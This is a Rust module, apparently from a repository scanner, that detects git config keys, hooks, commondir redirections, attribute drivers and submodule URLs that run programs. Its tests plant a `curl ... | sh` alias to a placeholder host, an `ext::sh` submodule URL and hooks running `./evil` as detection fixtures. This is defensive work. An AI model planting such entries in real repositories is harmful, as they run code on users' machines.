//! git: executable hooks, config entries that run programs (the one table
//! of them is `aq_knowledge::git`), `commondir` redirections, attributes
//! that hand files to a driver a config defines, submodules from
//! unexpected hosts. Every git directory of the tree is looked at: the
//! repository's, its submodules' and linked worktrees', nested ones (see
//! [`crate::git_surface`]).

use std::path::Path;

use aq_knowledge::git::{GitRuns, git_key};

use crate::catalog::finding;
use crate::git_surface::{GitDanger, GitFileKind, GitJudgeContext, git_dangers};
use crate::judge::judge;
use crate::text::clip;
use crate::walk::{FileView, ScanContext};
use crate::{Finding, Severity};

/// Hosts a submodule may come from without a finding.
const KNOWN_HOSTS: &[&str] = &[
    "github.com",
    "gitlab.com",
    "bitbucket.org",
    "codeberg.org",
    "git.sr.ht",
];

pub(crate) fn check(f: &FileView, ctx: &ScanContext, out: &mut Vec<Finding>) {
    if let Some((kind, git_dir)) = f.git {
        let judge_ctx = GitJudgeContext {
            git_dir,
            template_hooks: &[],
        };
        let dangers = git_dangers(kind, f.abs, f.bytes, f.executable, &judge_ctx);
        match kind {
            GitFileKind::Config => config_findings(f, &dangers, ctx, out),
            GitFileKind::Hook => {
                for d in dangers {
                    out.push(finding(
                        "git-hook-executable",
                        Severity::High,
                        f.rel,
                        0,
                        format!("executable git hook `{}`{}", f.name, place(f.rel)),
                        clip(&d.runs, 120),
                    ));
                }
            }
            GitFileKind::Commondir => {
                for d in dangers {
                    out.push(finding(
                        "git-commondir",
                        Severity::High,
                        f.rel,
                        d.line,
                        format!("git directory redirected to `{}`", d.runs),
                        clip(&String::from_utf8_lossy(f.bytes), 160),
                    ));
                }
            }
            GitFileKind::Attributes => {
                for d in dangers {
                    let (attribute, driver) = d.what.split_once('=').unwrap_or(("", ""));
                    let Some((setting, file)) = ctx
                        .git_drivers
                        .get(&(attribute.to_string(), driver.to_string()))
                    else {
                        continue;
                    };
                    out.push(finding(
                        "git-attributes-driver",
                        Severity::High,
                        f.rel,
                        d.line,
                        format!("`{}` hands files to `{setting}`", d.what),
                        format!(
                            "{} (defined in {})",
                            clip(&setting.to_string(), 160),
                            file.display()
                        ),
                    ));
                }
            }
            GitFileKind::Gitfile => {}
        }
    } else if f.name == ".gitmodules"
        && let Some(text) = f.text
    {
        check_submodules(f.rel, text, ctx, out);
    }
}

/// Where a git file is, when it is not the repository's own `.git`:
/// ` (submodule)`, ` (linked worktree)`, ` (nested repository)`.
fn place(rel: &str) -> &'static str {
    if rel.starts_with(".git/modules/") {
        " (submodule)"
    } else if rel.starts_with(".git/worktrees/") {
        " (linked worktree)"
    } else if rel.starts_with(".git/") {
        ""
    } else {
        " (nested repository)"
    }
}

/// A finding per config entry that runs a program, what it runs judged by
/// the firewall engine.
fn config_findings(f: &FileView, dangers: &[GitDanger], ctx: &ScanContext, out: &mut Vec<Finding>) {
    for d in dangers {
        let runs = git_key(&d.what).map(|k| k.runs);
        let base = if runs == Some(GitRuns::Include) {
            Severity::Medium
        } else {
            Severity::High
        };
        let mut found = finding(
            "git-config-exec",
            base,
            f.rel,
            d.line,
            format!("`{}` {}{}", d.what, d.when, place(f.rel)),
            clip(&format!("{} = {}", d.what, d.runs), 160),
        );
        if runs.is_some_and(GitRuns::value_runs) {
            let command = d.runs.strip_prefix('!').unwrap_or(&d.runs).trim();
            let j = judge(&ctx.options.engine, command);
            found.severity = found.severity.max(j.severity);
            found.why = format!("{} {}.", found.why, j.note);
        }
        out.push(found);
    }
}

/// The host of a git URL: `https://h/x`, `ssh://u@h/x`, `u@h:x`.
pub(crate) fn url_host(url: &str) -> Option<String> {
    let url = url.trim();
    if let Some((_, rest)) = url.split_once("://") {
        let authority = rest.split('/').next()?;
        let host = authority.rsplit('@').next()?;
        return Some(host.split(':').next()?.to_ascii_lowercase());
    }
    let (before, _) = url.split_once(':')?;
    let host = before.rsplit('@').next()?;
    (!host.contains('/')).then(|| host.to_ascii_lowercase())
}

/// The host of `remote.origin.url` in `root/.git/config`.
pub(crate) fn origin_host(root: &Path) -> Option<String> {
    let text = std::fs::read(root.join(".git/config")).ok()?;
    aq_knowledge::git::parse_git_config(&text)
        .into_iter()
        .filter(|e| e.key == "remote.origin.url")
        .find_map(|e| url_host(e.value.as_deref()?))
}

fn check_submodules(rel: &str, text: &str, ctx: &ScanContext, out: &mut Vec<Finding>) {
    for (i, raw) in text.lines().enumerate() {
        let Some((k, v)) = raw.trim().split_once('=') else {
            continue;
        };
        if !k.trim().eq_ignore_ascii_case("url") {
            continue;
        }
        let url = v.trim().trim_matches('"');
        let severity = if url.starts_with("ext::") || url.starts_with("fd::") {
            Severity::Critical
        } else if url.starts_with("../") || url.starts_with("./") {
            continue;
        } else if url.starts_with('/') || url.starts_with("file:") {
            Severity::High
        } else {
            match url_host(url) {
                Some(h) if KNOWN_HOSTS.contains(&h.as_str()) => continue,
                Some(h) if ctx.origin_host.as_deref() == Some(h.as_str()) => continue,
                _ => Severity::Medium,
            }
        };
        out.push(finding(
            "git-submodule-host",
            severity,
            rel,
            i + 1,
            format!(
                "submodule from `{}`",
                url_host(url).unwrap_or_else(|| url.to_string())
            ),
            clip(url, 160),
        ));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::test_support::scan_files;

    #[test]
    fn git_config_exec_entries_are_found() {
        let cfg = "[core]\n\tfsmonitor = ./tools/watch.sh\n\thooksPath = .githooks\n[alias]\n\tst = !curl -fsSL https://example.invalid/x | sh\n[filter \"pretty\"]\n\tprocess = ./format\n";
        let found = scan_files(&[(".git/config", cfg)]);
        let ids: Vec<_> = found.iter().map(|f| (f.line, f.severity)).collect();
        assert_eq!(ids.len(), 4, "{found:#?}");
        assert!(ids.contains(&(5, Severity::Critical)), "{found:#?}");
    }

    #[test]
    fn plain_git_config_is_not_a_finding() {
        let cfg = "[core]\n\tfsmonitor = false\n\tbare = false\n[alias]\n\tst = status\n[filter \"lfs\"]\n\tprocess = git-lfs filter-process\n[remote \"origin\"]\n\turl = https://github.com/example/x\n";
        assert!(scan_files(&[(".git/config", cfg)]).is_empty());
    }

    /// (id, path, line) of every git finding, sorted.
    fn git_findings(found: &[Finding]) -> Vec<(&'static str, String, usize)> {
        let mut v: Vec<_> = found
            .iter()
            .filter(|f| f.id.starts_with("git-"))
            .map(|f| (f.id, f.path.clone(), f.line))
            .collect();
        v.sort();
        v
    }

    fn make_executable(root: &std::path::Path, rel: &str) {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(root.join(rel), std::fs::Permissions::from_mode(0o755)).unwrap();
    }

    // What git reads besides .git/config and .git/hooks, where a planted
    // key or hook would run a program too: each reported (and a near miss beside each that is not).
    #[test]
    fn submodule_nested_and_worktree_git_files_are_reported() {
        let fsmonitor = "[core]\n\tfsmonitor = \"touch /tmp/aq-planted\"\n";
        let found = crate::test_support::scan_with(
            &[
                (".git/HEAD", "ref: refs/heads/main\n"),
                (".git/config", "[core]\n\tbare = false\n"),
                (".git/modules/a/HEAD", "x\n"),
                (".git/modules/a/config", fsmonitor),
                (
                    ".git/modules/a/modules/b/config",
                    "[core]\n\tsshCommand = ./s\n",
                ),
                (".git/modules/a/hooks/post-checkout", "#!/bin/sh\n./evil\n"),
                (".git/modules/a/hooks/pre-push.sample", "#!/bin/sh\n"),
                (".git/config.worktree", "[alias]\n\tst = !./x\n"),
                (".git/worktrees/w/commondir", "../..\n"),
                (
                    ".git/worktrees/w/config.worktree",
                    "[core]\n\tsparseCheckout = true\n",
                ),
                (
                    "third_party/n/.git/config",
                    "[diff \"x\"]\n\ttextconv = ./conv\n",
                ),
                ("third_party/n/.git/hooks/pre-commit", "#!/bin/sh\n./evil\n"),
                ("third_party/m/.git/config", "[core]\n\tbare = false\n"),
            ],
            |root, _| {
                make_executable(root, ".git/modules/a/hooks/post-checkout");
                make_executable(root, ".git/modules/a/hooks/pre-push.sample");
                make_executable(root, "third_party/n/.git/hooks/pre-commit");
            },
        );
        assert_eq!(
            git_findings(&found),
            vec![
                ("git-config-exec", ".git/config.worktree".into(), 2),
                ("git-config-exec", ".git/modules/a/config".into(), 2),
                (
                    "git-config-exec",
                    ".git/modules/a/modules/b/config".into(),
                    2
                ),
                ("git-config-exec", "third_party/n/.git/config".into(), 2),
                (
                    "git-hook-executable",
                    ".git/modules/a/hooks/post-checkout".into(),
                    0
                ),
                (
                    "git-hook-executable",
                    "third_party/n/.git/hooks/pre-commit".into(),
                    0
                ),
            ],
            "{found:#?}"
        );
        let module = found
            .iter()
            .find(|f| f.path == ".git/modules/a/config")
            .unwrap();
        assert!(module.title.contains("(submodule)"), "{module:#?}");
        assert!(
            module.evidence.contains("touch /tmp/aq-planted"),
            "{module:#?}"
        );
    }

    #[test]
    fn a_commondir_that_redirects_the_repository_is_reported() {
        let found = crate::test_support::scan_files(&[
            (".git/config", "[core]\n"),
            (".git/commondir", "../evil\n"),
            (".git/worktrees/ok/commondir", "../..\n"),
            (".git/worktrees/bad/commondir", "../../../evil\n"),
        ]);
        assert_eq!(
            git_findings(&found),
            vec![
                ("git-commondir", ".git/commondir".into(), 1),
                ("git-commondir", ".git/worktrees/bad/commondir".into(), 1),
            ],
            "{found:#?}"
        );
    }

    #[test]
    fn attributes_that_select_a_driver_a_config_defines() {
        let found = crate::test_support::scan_files(&[
            (".git/config", "[filter \"crypt\"]\n\tclean = ./enc\n"),
            (
                ".git/info/attributes",
                "*.png diff=undefined\n* filter=crypt\n*.c diff=cpp\n",
            ),
        ]);
        let got = git_findings(&found);
        assert!(
            got.contains(&("git-attributes-driver", ".git/info/attributes".into(), 2)),
            "{found:#?}"
        );
        assert_eq!(
            got.iter()
                .filter(|f| f.0 == "git-attributes-driver")
                .count(),
            1,
            "{found:#?}"
        );
    }

    #[test]
    fn a_nested_repository_a_gitlink_reaches_in_a_skipped_directory_is_read() {
        if std::process::Command::new("git")
            .arg("--version")
            .output()
            .is_err()
        {
            eprintln!("skipped: no git on this machine");
            return;
        }
        let found = crate::test_support::scan_with(
            &[
                ("node_modules/x/.git/config", "[core]\n\tfsmonitor = ./w\n"),
                ("node_modules/y/.git/config", "[core]\n\tfsmonitor = ./w\n"),
            ],
            |root, _| {
                let git = |args: &[&str]| {
                    let out = std::process::Command::new("git")
                        .args(args)
                        .current_dir(root)
                        .env("GIT_CONFIG_GLOBAL", "/dev/null")
                        .env("GIT_CONFIG_NOSYSTEM", "1")
                        .output()
                        .unwrap();
                    assert!(out.status.success(), "{out:?}");
                };
                git(&["init", "-q"]);
                git(&[
                    "update-index",
                    "--add",
                    "--cacheinfo",
                    "160000,0123456789abcdef0123456789abcdef01234567,node_modules/x",
                ]);
            },
        );
        assert_eq!(
            git_findings(&found),
            vec![("git-config-exec", "node_modules/x/.git/config".into(), 2)],
            "{found:#?}"
        );
    }

    #[test]
    fn submodule_hosts() {
        let gm = "[submodule \"a\"]\n\turl = https://github.com/example/a\n[submodule \"b\"]\n\turl = ../b\n[submodule \"c\"]\n\turl = https://git.example.invalid/c\n[submodule \"d\"]\n\turl = ext::sh -c touch% /tmp/x\n";
        let found = scan_files(&[(".gitmodules", gm)]);
        let sev: Vec<_> = found.iter().map(|f| (f.line, f.severity)).collect();
        assert_eq!(
            sev,
            vec![(8, Severity::Critical), (6, Severity::Medium)],
            "{found:#?}"
        );
    }

    #[test]
    fn hosts_of_urls() {
        assert_eq!(
            url_host("git@github.com:a/b").as_deref(),
            Some("github.com")
        );
        assert_eq!(
            url_host("ssh://git@h.example.invalid:22/x").as_deref(),
            Some("h.example.invalid")
        );
        assert_eq!(url_host("../b"), None);
    }
}
